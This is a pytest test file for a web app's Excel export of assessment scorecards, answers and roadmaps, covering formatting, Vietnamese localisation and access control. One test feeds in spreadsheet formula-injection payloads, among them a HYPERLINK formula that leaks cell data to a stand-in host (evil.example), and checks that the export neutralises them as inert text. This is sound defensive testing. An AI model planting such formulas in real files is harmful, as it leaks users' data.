"""The Excel export (issue 11 item 6): scorecard, answers and the edited roadmap as the JSON and CSV
exports have them, numbers as numbers, in the assessment's language, and no cell a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from planner.services.exchange import safe_cell
from tests.web.conftest import Actions, csrf_token

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _xlsx(actions: Actions, assessment_id: int) -> bytes:
    response = actions.client.get(f"/assessments/{assessment_id}/export/results.xlsx")
    assert response.status_code == 200
    assert response.mimetype == XLSX
    assert re.match(
        r'attachment; filename="[a-z0-9-]+-results\.xlsx"', response.headers["Content-Disposition"]
    )
    return response.data


def _book(data: bytes) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _records(sheet: Worksheet) -> list[dict[str, object]]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _edit(actions: Actions, assessment_id: int, action: str, **fields: str) -> None:
    page = actions.client.get(f"/assessments/{assessment_id}/roadmap").get_data(as_text=True)
    fields["revision"] = re.search(r'name="revision" value="(\d+)"', page).group(1)
    response = actions.post(f"/assessments/{assessment_id}/roadmap/{action}", fields)
    assert response.status_code == 303, response.get_data(as_text=True)


@pytest.fixture
def edited(consultant):
    """Northwind with a custom initiative added and a generated one retitled and re-owned."""
    assessment_id = consultant.import_assessment(
        (EXAMPLES / "northwind-en.yaml").read_bytes(), "northwind.yaml"
    )
    _edit(
        consultant,
        assessment_id,
        "add",
        title="Sales playbook",
        dimension="idic.interact",
        to_level="3",
        duration_weeks="6",
        owner="Head of Sales",
    )
    road = consultant.client.get(f"/assessments/{assessment_id}/export/results.json").get_json()
    target = road["roadmap"]["initiatives"][1]
    _edit(
        consultant,
        assessment_id,
        "change",
        initiative=target["id"],
        title="Our own title",
        start_week=str(target["start_week"]),
        duration_weeks=str(target["end_week"] - target["start_week"]),
        owner="Head of Service",
    )
    return assessment_id, target["id"]


def test_the_workbook_holds_what_the_json_and_csv_exports_hold(consultant, edited):
    assessment_id, changed = edited
    book = _book(_xlsx(consultant, assessment_id))
    data = consultant.client.get(f"/assessments/{assessment_id}/export/results.json").get_json()
    assert book.sheetnames == ["Scorecard", "Answers", "Roadmap"]

    card = {row["ID"]: row for row in _records(book["Scorecard"])}
    for fw in data["scorecard"]["frameworks"]:
        assert card[fw["id"]]["Score"] == fw["score"]
        assert card[fw["id"]]["Level"] == fw["level"]
        assert card[fw["id"]]["Level name"] == fw["level_name"]
        for dim in fw["dimensions"]:
            row = card[f"{fw['id']}.{dim['id']}"]
            assert [row[k] for k in ("Score", "Level", "Target", "Gap", "Coverage")] == [
                dim["score"],
                dim["level"],
                dim["target"],
                dim["gap"],
                dim["coverage"],
            ]
            assert row["Tentative (coverage under half)"] is None  # every dimension fully answered
    assert len(card) == sum(1 + len(fw["dimensions"]) for fw in data["scorecard"]["frameworks"])
    assert isinstance(card["idic.identify"]["Score"], float)
    assert book["Scorecard"]["J3"].number_format == "0%"

    text = consultant.client.get(f"/assessments/{assessment_id}/export/responses.csv").get_data(
        as_text=True
    )
    responses = list(csv.DictReader(io.StringIO(text)))
    answers = _records(book["Answers"])
    assert len(answers) == len(responses) > 0
    for row, line in zip(answers, responses, strict=True):
        assert (row["Respondent"], row["Role"], row["Question ID"]) == (
            line["respondent"],
            line["role"],
            line["question_id"],
        )
        assert row["Question"] == line["question"]
        assert row["Answer"] == (
            int(line["answer"]) if line["answer"].isdigit() else line["answer"]
        )
        assert row["Updated (UTC)"] == datetime.fromisoformat(line["updated_at"])
    kinds = {type(row["Answer"]) for row in answers}
    assert int in kinds
    assert {row["Answer"] for row in answers if not isinstance(row["Answer"], int)} <= {
        "na",
        "unknown",
        None,
    }

    initiatives = data["roadmap"]["initiatives"]
    ordered = [i for i in initiatives if not i["later"]] + [i for i in initiatives if i["later"]]
    road = _records(book["Roadmap"])
    assert [r["Initiative"] for r in road] == [i["title"] for i in ordered]
    assert [r["No."] for r in road] == list(range(1, len(ordered) + 1))
    assert [(r["Start week"], r["End week"]) for r in road] == [
        (i["start_week"], i["end_week"]) for i in ordered
    ]
    by_id = {r["ID"]: r for r in road}
    added = by_id["sales-playbook"]
    assert (added["Initiative"], added["Owner"], added["Weeks"]) == (
        "Sales playbook",
        "Head of Sales",
        6,
    )
    assert added["Added by the consultant"] == "yes"
    assert added["Changed by the consultant"] is None
    assert by_id[changed]["Initiative"] == "Our own title"
    assert by_id[changed]["Owner"] == "Head of Service"
    assert by_id[changed]["Changed by the consultant"] == "yes"
    untouched = [r for r in road if r["ID"] not in {"sales-playbook", changed}]
    assert untouched
    assert all(r["Added by the consultant"] is None for r in untouched)
    assert all(r["Changed by the consultant"] is None for r in untouched)


def test_headers_are_bold_and_frozen_and_columns_sized(consultant, edited):
    assessment_id, _ = edited
    book = _book(_xlsx(consultant, assessment_id))
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        assert not any(cell.font.bold for cell in sheet[2])
        widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[1]]
        assert all(8 <= w <= 62 for w in widths), (sheet.title, widths)
    answers = book["Answers"]
    question = next(c for c in answers[1] if c.value == "Question").column_letter
    assert answers.column_dimensions[question].width == 62  # long questions: the widest column


def _hostile_assessment(consultant: Actions) -> int:
    client_id = consultant.new_client()
    assessment_id = consultant.new_assessment(client_id)
    link = consultant.invite(assessment_id, name='=HYPERLINK("http://x")', role="+cmd")
    browser = consultant.app.test_client()
    browser.get(link)
    token = csrf_token(browser, "/respond/page/1")
    for seq, (qid, comment) in enumerate(
        [
            ("idic.identify.one-customer-id", HOSTILE),
            ("idic.identify.known-transactions", "@SUM(A1:A9)"),
            ("idic.interact.shared-history", "-2+3"),
        ],
        1,
    ):
        response = browser.post(
            "/respond/save",
            json={"question": qid, "value": "2", "comment": comment, "client_seq": seq},
            headers={"X-CSRFToken": token},
        )
        assert response.status_code == 200, response.get_data(as_text=True)
    return assessment_id


def test_hostile_text_arrives_as_inert_text(consultant):
    assessment_id = _hostile_assessment(consultant)
    data = _xlsx(consultant, assessment_id)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    book = _book(data)
    answers = _records(book["Answers"])
    assert {r["Comment"] for r in answers} == {
        safe_cell(HOSTILE),
        "'@SUM(A1:A9)",
        "'-2+3",
    }
    assert safe_cell(HOSTILE) == "'" + HOSTILE
    assert {r["Respondent"] for r in answers} == {'\'=HYPERLINK("http://x")'}
    assert {r["Role"] for r in answers} == {"'+cmd"}
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_thin_answers_are_flagged_tentative(consultant):
    assessment_id = _hostile_assessment(consultant)  # three answers of a whole model
    card = {r["ID"]: r for r in _records(_book(_xlsx(consultant, assessment_id))["Scorecard"])}
    flag = "Tentative (coverage under half)"
    assert card["idic"][flag] == "yes"
    assert card["idic.identify"]["Coverage"] < 0.5
    assert card["idic.identify"][flag] == "yes"
    assert card["idic.differentiate"]["Score"] is None
    assert card["idic.differentiate"][flag] is None  # no score, nothing to be tentative about


def test_a_vietnamese_assessment_gets_a_vietnamese_workbook(consultant):
    assessment_id = consultant.import_assessment(
        (EXAMPLES / "an-phat-vi.yaml").read_bytes(), "an-phat-vi.yaml"
    )
    book = _book(_xlsx(consultant, assessment_id))  # the consultant's pages speak English
    assert book.sheetnames == ["Thẻ điểm", "Câu trả lời", "Lộ trình"]
    card = _records(book["Thẻ điểm"])
    assert {"Mô hình", "Khía cạnh", "Điểm", "Cấp độ", "Mục tiêu", "Độ bao phủ"} <= set(card[0])
    assert card[0]["Mô hình"] == "Mô hình IDIC (Peppers & Rogers)"
    assert "Nhận diện khách hàng" in {r["Khía cạnh"] for r in card}
    answers = _records(book["Câu trả lời"])
    assert {"Người trả lời", "Vai trò", "Câu hỏi", "Câu trả lời", "Ghi chú"} <= set(answers[0])
    road = _records(book["Lộ trình"])
    assert {"STT", "Sáng kiến", "Giai đoạn", "Tuần bắt đầu", "Số tuần", "Người phụ trách"} <= set(
        road[0]
    )
    data = consultant.client.get(f"/assessments/{assessment_id}/export/results.json").get_json()
    assert {r["Sáng kiến"] for r in road} == {i["title"] for i in data["roadmap"]["initiatives"]}
    assert {r["Giai đoạn"] for r in road} <= {p["name"] for p in data["roadmap"]["phases"]}


def test_the_assessment_page_links_the_workbook(consultant, edited):
    assessment_id, _ = edited
    page = consultant.client.get(f"/assessments/{assessment_id}").get_data(as_text=True)
    assert f'href="/assessments/{assessment_id}/export/results.xlsx">Excel (XLSX)</a>' in page


def test_another_consultancy_gets_404(app, consultant, edited):
    assessment_id, _ = edited
    intruder = Actions(app, app.test_client())
    intruder.sign_up("Second Consulting", "b@second.example")
    response = intruder.client.get(f"/assessments/{assessment_id}/export/results.xlsx")
    assert response.status_code == 404
    assert b"PK" not in response.data[:2]
